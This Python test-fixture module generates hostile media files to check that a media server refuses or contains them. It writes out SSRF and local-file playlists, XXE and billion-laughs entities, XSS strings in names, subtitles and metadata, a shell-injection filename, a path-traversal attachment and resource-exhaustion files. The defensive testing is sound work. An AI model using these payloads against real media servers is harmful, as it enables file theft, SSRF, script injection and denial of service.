"""Hostile media files, generated in a folder: attacks known from other media servers.

`cases(bait)` lists them. The bait is what hostile files try to reach: a secret outside the library and an
address where the test listens. Each builder writes into the given folder and returns the path that a
library scan would find. `outcome` is the expected result:

- ready: a valid film with hostile text around it; it plays, and the text is shown as text
- refused: not opened at all; `code_hint` is the code
- failed: opened in the jail, and the title reports the error (`code_hint` is the code)
- ignored: not taken by a library scan
"""

from __future__ import annotations

import io
import os
import random
import struct
import subprocess
import tempfile
import wave
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial
from pathlib import Path

import imageio_ffmpeg

SECRET = "the-secret-of-this-machine-7f3a"


@dataclass(frozen=True)
class Bait:
    secret: Path
    url: str


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], Path]
    outcome: str
    code_hint: str = ""


def cases(bait: Bait) -> tuple[Case, ...]:
    return (*playlists(bait), *names(), *words(bait), *broken(bait), *not_media(bait))


def playlists(bait: Bait) -> Iterator[Case]:
    hls = f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{bait.url}/a.ts\n#EXTINF:1,\nfile://{bait.secret}\n"
    hls += f"#EXTINF:1,\nconcat:{bait.url}/h|file://{bait.secret}\n#EXT-X-ENDLIST\n"
    loop = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nloop.mp4\n" * 3
    mpd = f"""<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period>
<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{bait.url}/</BaseURL>
<SegmentList><SegmentURL media="a.mp4"/></SegmentList></Representation></AdaptationSet></Period></MPD>"""
    sdp = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
    yield _text("hls as mp4", "film.mp4", hls, "refused_playlist_hls")
    yield _text("hls behind a BOM", "bom.mp4", "\ufeff \n" + hls, "refused_playlist_hls")
    yield _text("hls that holds itself", "loop.mp4", loop, "refused_playlist_hls")
    yield _text("dash as mp4", "dash.mp4", mpd, "refused_playlist_dash")
    yield _text(
        "ffconcat as mp4",
        "list.mp4",
        f"ffconcat version 1.0\nfile '{bait.secret}'\n",
        "refused_playlist_ffconcat",
    )
    yield _text("sdp as mp4", "call.mp4", sdp, "refused_playlist_sdp")
    yield _text("address as mp4", "net.mp4", f"{bait.url}/x.mp4\n", "refused_playlist_pls")
    yield Case(
        "hls inside avi",
        partial(_write, "gab2.avi", lambda: avi_with_subtitles(hls.encode())),
        "failed",
        "nothing_to_play",
    )
    yield Case(
        "external data in mov", partial(_write, "dref.mov", lambda: outside_mov(bait.secret)), "failed", "no_data"
    )


def names() -> Iterator[Case]:
    for name in (
        "it's \"quoted\".mp4", "new\nline.mp4", "-y.mp4", "--help.mp4", "http:--x.mp4", "a%03d%s.mp4",
        "a:b|c.mp4", "$(touch x);`id`&.mp4", "[0:v]=\\'.mp4", "..mp4.mp4", "<img src=x onerror=alert(1)>.mp4",
        "\u202egnp.mp4", "Zo\u0308e \U0001f600 \u65e5\u672c.mp4", os.fsdecode(b"latin-\xe9\xff.mp4"),
        "x" * 240 + ".mp4",
    ):  # fmt: skip
        yield Case(f"name {name[:40]!a}", partial(_write, name, _film), "ready")
    for folder in ("<img src=x onerror=alert(1)>", "http:", "%2e%2e", "-i"):
        yield Case(f"folder {folder}", partial(_write, f"{folder}/film.mp4", _film), "ready")


def words(bait: Bait) -> Iterator[Case]:
    script = "<script>alert(1)</script>"
    entity = f'<!DOCTYPE m [<!ENTITY x SYSTEM "file://{bait.secret}"><!ENTITY y SYSTEM "{bait.url}/e">]>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="{bait.url}/i"/></svg>'
    sidecars = {
        "nfo with entities": (
            "film.nfo",
            f"<?xml version='1.0'?>{entity}<movie><title>&x;&y;</title></movie>",
        ),
        "nfo that laughs": (
            "film.nfo",
            f'<!DOCTYPE m [<!ENTITY l0 "ha">{laughs}]><movie>&l11;</movie>',
        ),
        "nfo with markup": ("film.nfo", "<movie><title>&lt;img src=x onerror=alert(1)&gt;</title></movie>"),
        "svg poster": ("poster.jpg", svg),
        "script in vtt": (
            "film.en.vtt",
            f"WEBVTT\n\n00:00.000 --> 00:01.000\n{script}<img src=x onerror=alert(1)>\n",
        ),
        "script in srt": ("film.en.srt", f"1\n00:00:00,000 --> 00:00:01,000\n{script}\n"),
        "script in ass": (
            "film.en.ass",
            f"[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,D,,0,0,0,,{{\\p1}}{script}\n",
        ),
        "playlist as srt": ("film.en.srt", f"#EXTM3U\n#EXTINF:1,\nfile://{bait.secret}\n"),
    }
    for name, (beside, text) in sidecars.items():
        yield Case(name, partial(_beside, beside, text), "ready")
    metadata = f";FFMETADATA1\ntitle={script}\nartist=No space left on device\n"
    metadata += f"[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=500\ntitle=<img src=x onerror=alert(1)>{script}\n"
    yield Case(
        "script in title and chapter",
        partial(_write, "titled.mp4", lambda: _film(metadata=metadata)),
        "ready",
    )
    named = (
        "-metadata:s:a:0",
        f'title=x",URI="{bait.url}/a"\n#EXTINF:1,</Label>{script}',
        "-metadata:s:a:0",
        "language=<b>",
    )
    yield Case("script in a track name", partial(_write, "named.mkv", lambda: _film("mkv", *named)), "ready")
    yield Case("attachment that climbs", partial(_write, "attached.mkv", _attached), "ready")


def broken(bait: Bait) -> Iterator[Case]:
    def cut(ending: str, *extra: str) -> bytes:
        whole = _film(ending, *extra)
        return whole[: len(whole) * 2 // 3]

    yield Case(
        "mp4 cut short",
        partial(_write, "cut.mp4", lambda: cut("mp4", "-movflags", "+faststart")),
        "failed",
        "truncated",
    )
    yield Case("mp4 without its index", partial(_write, "noindex.mp4", lambda: cut("mp4")), "failed", "truncated")
    yield Case("mkv cut short", partial(_write, "cut.mkv", lambda: cut("mkv")), "failed", "truncated")
    yield Case("avi cut short", partial(_write, "cut.avi", lambda: cut("avi")), "failed", "truncated")
    yield Case("wav cut short", partial(_write, "cut.wav", lambda: tone()[:40_000]), "failed", "truncated")
    yield Case("ts cut short", partial(_write, "cut.ts", lambda: cut("ts")), "ready")
    yield Case("noise behind ftyp", partial(_write, "noise.mp4", noise), "failed", "unreadable")
    yield Case("huge picture", partial(_write, "huge.mov", huge_mov), "failed", "too_large")
    yield Case("picture without a size", partial(_write, "flat.mov", lambda: huge_mov(0)), "failed", "no_picture_size")
    yield Case("endless duration", partial(_write, "endless.mkv", endless_mkv), "failed", "too_long")
    yield Case(
        "many streams", partial(_write, "streams.mkv", partial(many_streams, 20_000)), "failed", "too_many_streams"
    )


def not_media(bait: Bait) -> Iterator[Case]:
    def symlink(folder: Path) -> Path:
        path = folder / "link.mp4"
        path.symlink_to(bait.secret)
        return path

    def pipe(folder: Path) -> Path:
        os.mkfifo(folder / "pipe.mp4")
        return folder / "pipe.mp4"

    yield Case("symlink out", symlink, "refused", "refused_symlink")
    yield Case("named pipe", pipe, "ignored", "refused_not_a_file")
    yield Case("empty", partial(_write, "empty.mp4", bytes), "refused", "refused_empty")
    yield Case("random bytes", partial(_write, "random.mp4", noise_alone), "refused", "refused_unknown")
    yield Case("zeros", partial(_write, "zeros.mp4", lambda: bytes(1 << 20)), "refused", "refused_unknown")
    yield Case("zip", partial(_write, "zip.mp4", lambda: b"PK\x03\x04" + bytes(500)), "refused", "refused_archive")
    yield _text("svg as mp4", "svg.mp4", "<svg onload='alert(1)'/>", "refused_svg")
    yield _text("html as mp4", "html.mkv", "<!doctype html><script>alert(1)</script>", "refused_html")


def avi_with_subtitles(payload: bytes) -> bytes:
    """An AVI whose only stream is a GAB2 subtitle, which ffmpeg opens as a separate file."""
    gab2 = b"GAB2\0" + struct.pack("<HI2sHI", 2, 2, b"\0\0", 4, len(payload)) + payload
    header = struct.pack("<10I16x", 40000, 0, 0, 0x10, 25, 0, 1, 0, 320, 180)
    stream = b"txts" + struct.pack("<4s11I", b"\0" * 4, 0, 0, 0, 1, 25, 0, 25, 0, 0, 0, 0) + bytes(8)
    lists = _riff(b"LIST", b"strl" + _riff(b"strh", stream) + _riff(b"strf", b""))
    head = _riff(b"LIST", b"hdrl" + _riff(b"avih", header) + lists)
    return _riff(b"RIFF", b"AVI " + head + _riff(b"LIST", b"movi" + _riff(b"00tx", gab2)))


def outside_mov(target: Path) -> bytes:
    """A film whose samples are declared to be in another file (an alias in `dref`)."""
    place = os.fsencode(target)
    alias = bytes(10) + b"\0" * 28 + bytes(12) + bytes([min(len(target.name), 63)])
    alias += target.name.encode()[:63].ljust(63, b"\0") + bytes(16) + struct.pack(">HH", 1, 1) + bytes(16)
    alias += struct.pack(">HH", 2, len(place)) + place + b"\0" * (len(place) % 2) + b"\xff\xff\0\0"
    entry = _box(b"alis", bytes(4) + alias)
    dref = bytes(4) + struct.pack(">I", 1) + entry
    return _replace(_film("mov"), (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"), lambda _: dref)


def huge_mov(side: int = 32_000) -> bytes:
    """Uncompressed video that claims `side` × `side` pixels."""

    def claim(table: bytes) -> bytes:
        return table[:40] + struct.pack(">HH", side, side) + table[44:]

    film = _film("mov", "-c:v", "rawvideo", "-pix_fmt", "yuyv422", "-s", "16x16", "-an")
    return _replace(film, (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"stsd"), claim)


def endless_mkv() -> bytes:
    """Two seconds with a declared duration of three thousand years."""
    film = _film("mkv")
    at = film.index(b"\x44\x89\x88") + 3
    return film[:at] + struct.pack(">d", 1e14) + film[at + 8 :]


def many_streams(count: int) -> bytes:
    """A Matroska file that contains only track entries."""
    head = _ebml(0x1A45DFA3, _ebml(0x4282, b"matroska") + _ebml(0x4287, b"\x04") + _ebml(0x4285, b"\x02"))
    info = _ebml(0x1549A966, _ebml(0x2AD7B1, b"\x0f\x42\x40") + _ebml(0x4489, struct.pack(">d", 1000.0)))
    tracks = b"".join(
        _ebml(0xAE, b"".join((
            _ebml(0xD7, struct.pack(">I", n)), _ebml(0x73C5, struct.pack(">I", n)), _ebml(0x83, b"\x02"),
            _ebml(0x86, b"A_PCM/INT/LIT"), _ebml(0xE1, _ebml(0x9F, b"\x01") + _ebml(0x6264, b"\x10")),
        )))
        for n in range(1, count + 1)
    )  # fmt: skip
    return head + _ebml(0x18538067, info + _ebml(0x1654AE6B, tracks))


def noise() -> bytes:
    return _box(b"ftyp", b"mp42\0\0\0\0mp42isom") + random.Random(7).randbytes(100_000)


def noise_alone() -> bytes:
    return random.Random(11).randbytes(100_000)


@cache
def _film(ending: str = "mp4", *extra: str, metadata: str = "") -> bytes:
    """A valid film of two seconds with audio."""
    with tempfile.TemporaryDirectory() as folder:
        out, words = Path(folder, f"film.{ending}"), Path(folder, "words.txt")
        words.write_text(metadata or ";FFMETADATA1\n")
        picture = (
            "-f",
            "lavfi",
            "-i",
            "testsrc2=s=160x90:r=25:d=2",
            "-f",
            "lavfi",
            "-i",
            "sine=d=2:r=48000",
        )
        described = ("-f", "ffmetadata", "-i", str(words), "-map_metadata", "2", "-map_chapters", "2")
        command = (*picture, *described, "-map", "0:v", "-map", "1:a", "-c:v", "libx264", "-c:a", "aac")
        _ffmpeg(*command, *extra, str(out))
        return out.read_bytes()


def tone() -> bytes:
    """One second of WAV audio."""
    out = io.BytesIO()
    with wave.open(out, "wb") as wav:
        wav.setparams((1, 2, 48_000, 48_000, "NONE", ""))
        wav.writeframes(b"\x10\x00\xf0\xff" * 24_000)
    return out.getvalue()


def _attached() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        film, note, out = (Path(folder, name) for name in ("film.mkv", "note.txt", "out.mkv"))
        film.write_bytes(_film("mkv"))
        note.write_text("attached")
        attach = (
            "-attach",
            str(note),
            "-metadata:s:t",
            "filename=../../x",
            "-metadata:s:t",
            "mimetype=text/plain",
        )
        _ffmpeg("-i", str(film), "-c", "copy", *attach, str(out))
        return out.read_bytes()


def _ffmpeg(*arguments: str) -> None:
    command = (imageio_ffmpeg.get_ffmpeg_exe(), "-v", "error", "-nostdin", *arguments)
    subprocess.run(command, check=True, timeout=120)


def _write(name: str, content: Callable[[], bytes], folder: Path) -> Path:
    path = folder / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(content())
    return path


def _beside(name: str, text: str, folder: Path) -> Path:
    (folder / name).write_text(text)
    return _write("film.mp4", _film, folder)


def _text(name: str, file: str, text: str, code: str) -> Case:
    return Case(name, partial(_write, file, text.encode), "refused", code)


def _riff(name: bytes, data: bytes) -> bytes:
    return name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)


def _box(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + name + data


def _replace(data: bytes, path: tuple[bytes, ...], change: Callable[[bytes], bytes]) -> bytes:
    """Change every box at a path of an ISO file whose index is at the end, so that no offset changes."""
    out, at = b"", 0
    while at + 8 <= len(data):
        size, name = struct.unpack_from(">I4s", data, at)
        size = size if size >= 8 else len(data) - at
        inside = data[at + 8 : at + size]
        if name == path[0]:
            inside = _replace(inside, path[1:], change) if path[1:] else change(inside)
        out, at = out + _box(name, inside), at + size
    return out


def _ebml(name: int, data: bytes) -> bytes:
    return name.to_bytes((name.bit_length() + 7) // 8) + struct.pack(">Q", 1 << 56 | len(data)) + data
